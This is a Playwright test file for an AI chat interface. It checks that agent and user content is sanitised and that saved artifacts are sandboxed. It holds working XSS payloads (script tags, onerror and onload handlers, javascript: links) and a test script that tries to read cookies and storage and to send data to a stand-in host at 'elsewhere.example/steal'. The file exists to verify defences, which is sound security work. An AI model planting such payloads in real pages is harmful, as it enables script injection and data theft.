"""Hostile content: it is shown as what it is, and reaches nothing."""

from playwright.sync_api import Route, expect
from tab import OpenTab, b64, call

MISCHIEF = """<img src=x onerror="window.hacked=1"><b>bold</b><script>window.hacked=1</script>"""
ANSWER = f"""{MISCHIEF}

[press](javascript:window.hacked=1) and [this](data:text/html,<script>alert(1)</script>)

And <a href="javascript:window.hacked=1">raw</a>

![a picture](https://elsewhere.example/pixel.png?secret=1) and <img src="https://elsewhere.example/pixel2.png">

<svg onload="window.hacked=1"><script>window.hacked=1</script></svg> <iframe src="https://elsewhere.example"></iframe>

```html
<script>window.hacked=1</script>
```

$\\href{{javascript:window.hacked=1}}{{x}}$ <style>body {{ display: none }}</style> <form action="https://elsewhere.example"><input></form>
"""
REACHING = """<!doctype html><body><p id=out>tried</p><script>
const out = document.getElementById("out");
const tries = {
  parent: () => parent.document.title, top: () => top.location.href, cookie: () => document.cookie,
  storage: () => localStorage.length,
};
for (const [name, attempt] of Object.entries(tries))
  try { attempt(); out.append(" reached-" + name); } catch { out.append(" no-" + name); }
const ask = (name, url) => fetch(url).then(() => out.append(" reached-" + name), () => out.append(" no-" + name));
ask("api", "/api/v1/threads");
ask("net", "https://elsewhere.example/steal");
new Image().src = "https://elsewhere.example/image";
out.onclick = () => { location.href = "https://elsewhere.example/gone"; };
</script>"""


def test_a19_a20_what_agents_and_users_write_is_shown_and_does_nothing(open_tab: OpenTab) -> None:
    tab = open_tab()
    asked: list[str] = []
    tab.page.on("request", lambda request: asked.append(request.url))
    use = call(MISCHIEF, MISCHIEF, input={"command": MISCHIEF})
    tab.send(f"print {b64(ANSWER)}; think {b64(ANSWER)}; {use}; keep {'a' * 60}.md {b64(ANSWER)}")
    tab.wait_for_end()
    tab.page.locator(".artifact-open").click()
    expect(tab.page.locator(".page")).to_contain_text("bold")
    expect(tab.page.locator("summary")).to_have_count(2)
    for summary in tab.page.locator("summary").all():
        summary.click()

    answer = tab.turn().locator(".answer")
    expect(answer.locator(".prose")).to_contain_text(MISCHIEF)
    expect(answer.locator(".prose").locator("a")).to_have_count(1)  # the picture, as a link that somebody may press
    expect(answer.locator(".dead-link")).to_have_count(4)
    assert (
        tab.page.locator("body")
        .locator(":is(.markdown, .fold) :is(img, script, iframe, form, input, style, b)")
        .count()
        == 0
    )
    for link in tab.page.locator(".markdown a").all():
        assert (link.get_attribute("href") or "").startswith("https://elsewhere.example/")
        link.dispatch_event("click", {"button": 1})
    assert tab.page.evaluate("'hacked' in window") is False
    assert [url for url in asked if not url.startswith(tab.stack.url)] == []
    tab.page.reload()
    tab.wait_for_end()
    assert tab.page.evaluate("'hacked' in window") is False


def test_a19_html_in_titles_and_messages_is_text(open_tab: OpenTab) -> None:
    tab = open_tab()
    tab.send(MISCHIEF, agent="demo")
    tab.wait_for_end()
    expect(tab.turn().locator(".bubble")).to_have_text(MISCHIEF)
    expect(tab.turn().locator(".answer")).to_contain_text(f"You wrote: “{MISCHIEF}”")
    expect(tab.page.locator("#title")).to_contain_text("<b>bold</b>")
    expect(tab.page.locator("#threads [aria-current]")).to_contain_text("<b>bold</b>")
    tab.page.locator("#search").fill("onerror")
    expect(tab.page.locator("#threads .excerpt").first).to_contain_text("onerror")
    assert tab.page.locator("body").locator("img:not([src='icon.svg']), b, script").count() == 0
    assert tab.page.evaluate("'hacked' in window") is False


def test_a15_a37_a_page_of_an_agent_reaches_neither_the_page_nor_the_api_nor_the_network(open_tab: OpenTab) -> None:
    tab = open_tab()
    outside: list[str] = []

    def let_out(route: Route) -> None:
        outside.append(route.request.url)
        route.abort()

    tab.page.context.route("https://elsewhere.example/**", let_out)
    script = "<script>window.hacked=1</script>"
    drawing = f"<svg xmlns='http://www.w3.org/2000/svg' onload='window.hacked=1' width='9' height='9'>{script}</svg>"
    tab.send(f"keep reach.html {b64(REACHING)}; keep bad.svg {b64(drawing)}")
    expect(tab.page.locator(".artifact-card")).to_have_count(2)
    tab.page.locator(".artifact-open", has_text="reach.html").click()
    out = tab.page.frame_locator("iframe").locator("#out")
    for what in ("parent", "top", "cookie", "storage", "api", "net"):
        expect(out).to_contain_text(f"no-{what}")
    out.click()
    expect(out).to_have_count(0)
    tab.page.locator(".artifact-open", has_text="bad.svg").click()
    expect(tab.page.locator(".picture img")).to_be_visible()
    assert tab.page.evaluate("'hacked' in window") is False
    # The browser itself tells of what it stopped; nothing of it has left.
    assert outside == []
    assert any("Content Security Policy" in complaint for complaint in tab.complaints)
    tab.complaints.clear()


def test_nothing_secret_is_kept_in_the_browser_and_nothing_of_others_is_asked(open_tab: OpenTab) -> None:
    tab = open_tab()
    asked: set[str] = set()
    tab.page.on("request", lambda request: asked.add(request.url))
    tab.page.reload()
    tab.send("say 1 0")
    tab.wait_for_end()
    assert {url.split("/")[2] for url in asked if url.startswith("http")} == {tab.stack.url.split("/")[2]}
    kept = tab.page.evaluate("Object.keys(localStorage).sort()")
    assert set(kept) <= {
        "longwick.agent",
        "longwick.drafts",
        "longwick.notifications",
        "longwick.sidebar-shut",
        "longwick.theme",
    }
    assert tab.page.evaluate("document.cookie") == ""
